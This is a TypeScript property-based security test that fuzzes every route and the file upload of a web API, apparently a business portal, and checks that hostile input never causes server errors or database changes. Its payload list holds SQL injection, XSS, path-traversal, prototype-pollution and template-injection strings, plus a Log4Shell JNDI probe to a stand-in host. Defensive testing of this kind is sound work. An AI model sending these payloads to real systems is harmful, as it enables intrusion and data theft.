import { API_KEY_SCOPES } from '@foretaksportalen/shared/contract/provider/api-key';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKeyService } from '../src/modules/api-key/index.ts';
import { databaseFingerprint, withoutCallLog } from './helpers/db-fingerprint.ts';
import { EVENT_LOOP_LIMIT_MS, watchEventLoop } from './helpers/event-loop-watch.ts';
import { pathsOf, withValueAt } from './helpers/json-paths.ts';
import {
  type Call,
  createRouteHarness,
  createRouteTestApp,
  isProviderRoute,
  logsRefusals,
  ROUTE_CALLS,
  type RouteHarness,
  type Row,
} from './helpers/route-calls.ts';
import type { Target } from './helpers/route-matrix.ts';
import { multipartBody, PNG_BYTES } from './helpers/uploads.ts';

/**
 * Hostile payloads (issue 10, security): random and malicious bodies, fields and path parameters sent to every
 * route, and hostile files to the upload. The answer is always 2xx or 4xx, a refusal is problem+json, and a
 * refused request leaves the database as it was. Bounded: RUNS_PER_ROUTE cases per route.
 */
const RUNS_PER_ROUTE = 4;

const HOSTILE_TEXTS = [
  "' OR '1'='1' --",
  "'; drop table cases; --",
  '1; select pg_sleep(5)',
  '<script>window.__xss=1</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Egnp.exe',
  '\uFEFF',
  'Z̴̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿',
  '👩‍👩‍👧‍👦'.repeat(50),
  'Ø'.repeat(5000),
  'x'.repeat(200_000),
  '',
  ' ',
  'null',
  '__proto__',
  '{"__proto__":{"admin":true}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant as literal text
  '${jndi:ldap://angriper.example/a}',
  '{{7*7}}',
  '-1',
  '1e309',
  'NaN',
  '00000000-0000-0000-0000-000000000000',
];

const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  {
    weight: 2,
    arbitrary: fc.constantFrom(null, true, false, 0, -1, 2 ** 53, 1e308, -0.5, [], {}, [null], { a: 1 }),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 5 }) },
);

const isPlainObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** Every byte percent-encoded, so that lone surrogates and control characters reach the server as bytes. */
const percentEncoded = (text: string) =>
  [...Buffer.from(text, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

type Mutation =
  | { kind: 'field'; path: string[]; value: unknown }
  | { kind: 'body'; value: unknown }
  | { kind: 'raw'; text: string }
  | { kind: 'parameter'; index: number; value: string }
  | { kind: 'query'; name: string; value: string }
  | { kind: 'extra key'; key: string; value: unknown };

/** What to break in a route's genuine call. */
function mutations(row: Row, genuine: Call): fc.Arbitrary<Mutation> {
  const parameterIndexes =
    row.route
      .split(' ')[1]
      ?.split('/')
      .flatMap((segment, index) => (segment === ':*' ? [index] : [])) ?? [];
  const options: fc.Arbitrary<Mutation>[] = [
    fc.record({ kind: fc.constant('query' as const), name: hostileText, value: hostileText }),
  ];
  if (parameterIndexes.length > 0) {
    options.push(
      fc.record({
        kind: fc.constant('parameter' as const),
        index: fc.constantFrom(...parameterIndexes),
        value: hostileText,
      }),
    );
  }
  if (genuine.method !== 'GET' && !genuine.headers?.['content-type']) {
    const paths = pathsOf(genuine.payload ?? {}, () => true);
    options.push(
      fc.record({
        kind: fc.constant('field' as const),
        path: fc.constantFrom(...paths),
        value: hostileValue,
      }),
      fc.record({ kind: fc.constant('body' as const), value: hostileValue }),
      fc.record({
        kind: fc.constant('raw' as const),
        text: fc.oneof(hostileText, fc.constantFrom('{"a":', '[1,2', '{"CaseUid": }', '\u0000{}')),
      }),
      fc.record({
        kind: fc.constant('extra key' as const),
        key: fc.constantFrom('__proto__', 'constructor', 'prototype', 'Id', 'CompanyId', 'companyId'),
        value: hostileValue,
      }),
    );
  }
  return fc.oneof(...options);
}

function mutated(genuine: Call, mutation: Mutation): Call {
  switch (mutation.kind) {
    case 'parameter': {
      const [path = '', query] = genuine.url.split('?');
      const segments = path.split('/');
      segments[mutation.index] = percentEncoded(mutation.value);
      return { ...genuine, url: segments.join('/') + (query ? `?${query}` : '') };
    }
    case 'query': {
      const separator = genuine.url.includes('?') ? '&' : '?';
      return {
        ...genuine,
        url: `${genuine.url}${separator}${percentEncoded(mutation.name)}=${percentEncoded(mutation.value)}`,
      };
    }
    case 'field':
      return { ...genuine, payload: withValueAt(genuine.payload ?? {}, mutation.path, mutation.value) };
    case 'body':
      return { ...genuine, payload: mutation.value };
    case 'raw':
      return {
        ...genuine,
        payload: mutation.text,
        headers: { ...genuine.headers, 'content-type': 'application/json' },
      };
    case 'extra key': {
      // As JSON text, so that a "__proto__" key reaches the server as the attacker wrote it.
      const rest = isPlainObject(genuine.payload) ? JSON.stringify(genuine.payload).slice(1, -1) : '';
      const extra = `${JSON.stringify(mutation.key)}:${JSON.stringify(mutation.value) ?? 'null'}`;
      return {
        ...genuine,
        payload: `{${[extra, rest].filter(Boolean).join(',')}}`,
        headers: { ...genuine.headers, 'content-type': 'application/json' },
      };
    }
  }
}

describe('hostile payloads to every route', () => {
  let apiKeys = 0;
  let routeApp: Awaited<ReturnType<typeof createRouteTestApp>>;
  let harness: RouteHarness;

  const loop = watchEventLoop();

  beforeAll(async () => {
    routeApp = await createRouteTestApp();
    harness = createRouteHarness(routeApp.context);
  });
  afterAll(async () => {
    loop.stopAndReport('security-payloads');
    await routeApp?.close();
  });

  /** The administrator about her own things: the caller most calls are allowed for. */
  const CALLER: [5, Target] = [5, 'own'];

  for (const row of ROUTE_CALLS) {
    const provider = isProviderRoute(row.route);
    it(`${row.route} answers 2xx or 4xx problem+json, and a refusal changes nothing`, async () => {
      const { context } = routeApp;
      let apiKey = '';
      await harness.freshData();
      let prepared = await harness.prepare(row, ...CALLER);
      // The database as the last refused call left it, while nothing else has written since.
      let unchangedSince: Record<string, string> | undefined;
      await fc.assert(
        fc.asyncProperty(mutations(row, prepared.call), async (mutation) => {
          if (await harness.freshData()) {
            prepared = await harness.prepare(row, ...CALLER);
            unchangedSince = undefined;
          }
          const { session, call } = prepared;
          if (provider && !apiKey) {
            apiKey = (
              await createApiKeyService({ db: context.db, clock: context.clock }).createApiKey({
                name: `Sikkerhetstest ${++apiKeys}`,
                scopes: [...API_KEY_SCOPES],
              })
            ).key;
            unchangedSince = undefined;
          }
          const hostile = mutated(call, mutation);
          const before = unchangedSince ?? (await databaseFingerprint(context.db));
          unchangedSince = undefined;
          const where = `${row.route} ${JSON.stringify(mutation).slice(0, 300)}`;
          const { answer: response, ms } = await loop.measure(
            where,
            () =>
              harness.send(
                provider
                  ? { ...hostile, headers: { ...hostile.headers, authorization: `Bearer ${apiKey}` } }
                  : hostile,
                provider ? null : session,
              ),
            (answer) => answer.statusCode >= 400,
          );
          expect(response.statusCode, `${where}: ${response.body.slice(0, 500)}`).toBeLessThan(500);
          expect(ms, `${where} held the event loop`).toBeLessThanOrEqual(EVENT_LOOP_LIMIT_MS);
          if (response.statusCode < 400) {
            // Later runs compare the database before and after themselves; only a call that removes the
            // objects they need makes them start again from the demo data.
            if (row.changesData) {
              harness.markDirty();
              apiKey = '';
            }
            return;
          }
          expect(response.headers['content-type'], where).toContain('application/problem+json');
          const problem = response.json();
          expect(problem.status, where).toBe(response.statusCode);
          expect(typeof problem.title, where).toBe('string');
          const after = await databaseFingerprint(context.db);
          expect(logsRefusals(row.route) ? withoutCallLog(after) : after, where).toEqual(
            logsRefusals(row.route) ? withoutCallLog(before) : before,
          );
          unchangedSince = after;
        }),
        { numRuns: RUNS_PER_ROUTE },
      );
    });
  }

  it('the upload keeps hostile file names and contents harmless', async () => {
    const { context } = routeApp;
    await fc.assert(
      fc.asyncProperty(
        hostileText,
        fc.constantFrom('image/png', 'application/pdf', 'text/html', 'application/x-msdownload', ''),
        fc.oneof(fc.constant(PNG_BYTES), fc.uint8Array({ maxLength: 2000 })),
        async (fileName, type, content) => {
          await harness.freshData();
          const { session } = await harness.prepare(
            ROUTE_CALLS.find((row) => row.route === 'POST /api/document/uploadfile') as Row,
            ...CALLER,
          );
          const { payload, contentType } = await multipartBody(fileName, type, content);
          const before = await databaseFingerprint(context.db);
          const response = await harness.send(
            {
              method: 'POST',
              url: '/api/document/uploadfile',
              payload,
              headers: { 'content-type': contentType },
            },
            session,
          );
          const where = `upload ${JSON.stringify(fileName).slice(0, 100)} ${type}`;
          expect(response.statusCode, `${where}: ${response.body}`).toBeLessThan(500);
          if (response.statusCode < 400) {
            harness.markDirty();
            // Whatever the name, the stored file is known by its key, never by a path made from the name.
            expect(response.json().Key).toMatch(/^[A-Za-z0-9_-]{16,64}$/);
            return;
          }
          expect(response.headers['content-type'], where).toContain('application/problem+json');
          expect(await databaseFingerprint(context.db), where).toEqual(before);
        },
      ),
      // A part named "file" without a file name once made the server answer 500.
      { numRuns: 20, examples: [['', '', PNG_BYTES]] },
    );
  });
});
